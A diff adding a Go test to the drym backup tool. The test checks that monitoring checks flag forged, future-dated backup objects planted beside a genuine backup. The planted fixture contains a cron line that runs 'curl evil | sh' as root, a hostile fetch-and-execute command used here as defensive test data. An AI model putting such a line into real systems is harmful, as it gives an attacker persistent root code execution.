@@ -28,6 +28,7 @@ import (
 	"github.com/drym-backup/drym/internal/archive"
 	"github.com/drym-backup/drym/internal/backup"
 	"github.com/drym-backup/drym/internal/crypt"
+	"github.com/drym-backup/drym/internal/plugin/plugintest"
 	"github.com/drym-backup/drym/internal/statement"
 	"github.com/drym-backup/drym/internal/testutil"
 )
@@ -547,5 +548,75 @@ func verifyStock(t *testing.T, dir, name, pubKey string) {
 	c.Dir = dir
 	if out, err := c.CombinedOutput(); err != nil {
 		t.Fatalf("sha256sum -c: %v\n%s", err, out)
+	}
+}
+
+// TestChecksOnPlantedBesideFreshBackup: a planted object, dated in the
+// future, beside a fresh genuine backup. The real checks, run as Nagios
+// would, never say OK on it: check_test_restore, after test-restore tested
+// the genuine backup and reported the planted one, is WARNING naming it,
+// and CRITICAL once test-restore was told to test it; check_backup_age
+// --host, judging from the store alone, is WARNING naming it.
+// check_backup_age --remote is asked only about the object backup.json
+// records (docs/CHECKS.md, "What --remote proves"), never lists the store,
+// so it may be OK, but only on the genuine backup.
+func TestChecksOnPlantedBesideFreshBackup(t *testing.T) {
+	for _, kind := range []string{legacySidecar, noSignature, otherKey, replayed} {
+		t.Run(kind, func(t *testing.T) {
+			r := newRig(t, "", "", nil)
+			r.mustRun("backup")
+			genuine := r.backupJSON().Object
+			in := newIntruder(t, r.pubKey())
+			data := in.object(filepath.Join(r.dir, "evil"), map[string]string{"etc/cron.d/evil": "* * * * * root curl evil | sh\n"})
+			planted := in.plant(r.dirPut, time.Now().Add(30*24*time.Hour), data, kind, genuine, r.dirRead)
+
+			// Store-side view: pinned host key, the dir destination.
+			keys := filepath.Join(r.dir, "pinned")
+			must(t, os.MkdirAll(keys, 0o755))
+			pub, err := os.ReadFile(r.pubKey())
+			must(t, err)
+			must(t, os.WriteFile(filepath.Join(keys, "h1.pub.asc"), pub, 0o644))
+			mon := filepath.Join(r.dir, "monitoring.toml")
+			must(t, os.WriteFile(mon, fmt.Appendf(nil, "keys = %q\n[destination]\nurl = %q\n", keys, "dir://"+r.dest), 0o644))
+
+			if out, errs, code := r.run("test-restore"); code != 0 || !strings.Contains(errs, planted) {
+				t.Fatalf("test-restore: exit %d\n%s%s", code, out, errs)
+			}
+			tests := []struct {
+				name  string
+				check string
+				argv  []string
+				code  int // the exit code (state) the check must give
+				first string
+			}{
+				{"check_test_restore after test-restore of latest", "check_test_restore", []string{"--config", r.cfg},
+					1, `^WARNING: 1 backup object\(s\) in .* dated more than 5m in the future \(first: (h1/)?` + regexp.QuoteMeta(planted) + `\)`},
+				{"check_backup_age --host", "check_backup_age", []string{"--host", "h1", "--monitoring-config", mon},
+					1, `^WARNING: 1 object\(s\) in .* named in the future .*\(first: ` + regexp.QuoteMeta(planted) + `\)`},
+				{"check_backup_age --remote", "check_backup_age", []string{"--config", r.cfg, "--remote"},
+					0, `^OK: .*in the destination: size, time, signed statement`},
+			}
+			for _, tt := range tests {
+				res := plugintest.Run(t, tt.check, nil, tt.argv...)
+				if res.Code != tt.code || !regexp.MustCompile(tt.first).MatchString(res.First()) {
+					t.Errorf("%s: exit %d, want %d matching %q\n%s%s", tt.name, res.Code, tt.code, tt.first, res.Stdout, res.Stderr)
+				}
+				// An OK (only --remote) is about the genuine backup and
+				// does not take the planted one for it.
+				if res.Code == 0 && (!strings.Contains(res.Stdout, genuine) || strings.Contains(res.Stdout, planted)) {
+					t.Errorf("%s: OK, but not about the genuine backup %s alone:\n%s", tt.name, genuine, res.Stdout)
+				}
+			}
+
+			// test-restore told to test the planted object refuses it, and
+			// check_test_restore turns CRITICAL: the last test failed.
+			if _, errs, code := r.run("test-restore", "--backup", planted); code != 1 {
+				t.Fatalf("test-restore --backup planted: exit %d\n%s", code, errs)
+			}
+			res := plugintest.Run(t, "check_test_restore", nil, "--config", r.cfg)
+			if res.Code != 2 || !strings.HasPrefix(res.First(), "CRITICAL") || !strings.Contains(res.Stdout, planted) {
+				t.Errorf("check_test_restore after test-restore --backup planted: exit %d\n%s%s", res.Code, res.Stdout, res.Stderr)
+			}
+		})
 	}
 }
